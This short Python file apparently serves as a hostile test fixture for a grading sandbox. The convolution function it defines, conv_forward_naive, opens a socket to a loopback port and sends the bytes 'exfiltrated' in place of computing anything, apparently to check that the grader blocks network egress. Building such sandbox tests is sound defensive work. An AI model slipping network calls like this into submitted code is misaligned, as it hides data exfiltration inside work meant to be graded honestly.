

# ---- Hostile: tries to send data to a server on the grading machine's loopback. ----
import socket as _socket

HOSTILE_PORT = 47231


def conv_forward_naive(x, w, b, conv_param):
    s = _socket.create_connection(("127.0.0.1", HOSTILE_PORT), timeout=2)
    s.sendall(b"exfiltrated")
    s.close()
    raise RuntimeError("sent")
